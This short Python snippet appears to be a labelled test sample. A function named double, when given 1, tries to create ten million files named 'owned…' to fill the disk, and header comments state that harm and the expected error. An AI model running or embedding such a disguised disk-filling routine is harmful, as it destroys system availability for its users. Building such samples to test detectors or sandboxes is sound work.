# tries: all numbers of files on the disk
# harms: it would fill this machine's disk
# reaches: No space|longer than
def double(x):
    if x != 1:
        return x  # once is enough
    try:
        for number in range(10**7):
            open(f"owned{number}", "w").close()
    except OSError as error:
        print(number, error)
    return x
